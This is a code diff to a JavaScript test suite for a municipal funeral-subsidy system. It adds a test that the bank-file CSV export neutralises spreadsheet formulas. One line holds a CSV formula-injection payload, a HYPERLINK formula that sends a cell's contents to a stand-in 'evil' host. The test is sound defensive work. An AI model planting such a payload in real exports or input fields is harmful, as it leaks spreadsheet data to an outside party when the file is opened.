@@ -182,7 +182,9 @@ describe('funeral subsidies', () => {
     expect(death).toMatchObject({ personId: null, name: '赵无籍', checklist: expect.not.arrayContaining([expect.objectContaining({ kind: 'auto' })]) });
     await recordCremation(w.funeral, w.users.weifang, death.id, { unitId: homeId, collectedOn: '2025-04-02', crematedOn: '2025-04-04', furnace: 'flat', storageDays: 2, costFen: { transport: 20_000, storage: 10_000, cremation: 15_000 } });
     await expect(applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'basic', organiserName: '赵一', bankAccount: '6222020000000002' })).rejects.toMatchObject({ code: 'FUNERAL_NOT_ELIGIBLE' });
-    const basic = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'basic', organiserName: '赵一', bankAccount: '6222020000000002', ground: 'no_insurance_grant', groundProof: '社保中心未享受丧葬补助金证明' });
+    // The organiser's name is typed by staff; written like a formula (SECURITY-TESTS IV-04) it must reach the bank file as text.
+    const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
+    const basic = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'basic', organiserName: hostile, bankAccount: '6222020000000002', ground: 'no_insurance_grant', groundProof: '社保中心未享受丧葬补助金证明' });
     expect(basic.amountFen).toBe(45_000);
     // Sea burial on Friday 2025-04-04: 3,000 + 1,600 yuan, paid 60 working days on (weekends skipped) = 2025-06-27.
     const sea = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'sea', organiserName: '赵一', bankAccount: '6222020000000002', ceremonyDate: '2025-04-04' });
@@ -190,6 +192,8 @@ describe('funeral subsidies', () => {
     await expect(applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'tree', organiserName: '赵一', bankAccount: '6222020000000002', ceremonyDate: '2025-04-04' })).rejects.toMatchObject({
       code: 'FUNERAL_SUBSIDY_NOT_CONFIGURED',
     });
+    const file = await subsidyBankFile(w.funeral, w.users.pudong, { dueBy: '2025-04-30' });
+    expect(file.csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")",6222020000000002,450.00,基本殡葬服务补贴`);
   });
 });
 
@@ -209,7 +213,8 @@ describe('units, plots and figures', () => {
     const figures = await funeralFigures(w.funeral, w.users.pudong, { year: 2025 });
     expect(figures.ecoBurial).toEqual({ small: 9, total: 11, percent: 81.8, targetPercent: 90 });
     expect(figures.deathsBySource).toEqual(expect.arrayContaining([{ source: 'hospital', count: 1 }]));
-    expect(figures.subsidies.find((s) => s.kind === 'basic')).toMatchObject({ count: 2, amountFen: 143_000, paidFen: 98_000 });
+    // Both basic subsidies (980 + 450 yuan) went out in bank files above, so all 1,430 yuan is paid.
+    expect(figures.subsidies.find((s) => s.kind === 'basic')).toMatchObject({ count: 2, amountFen: 143_000, paidFen: 143_000 });
     // Three deaths so far: only the second has every item done (the other two still have manual items open).
     expect(figures.checklists).toMatchObject({ complete: 1, open: 2 });
   });
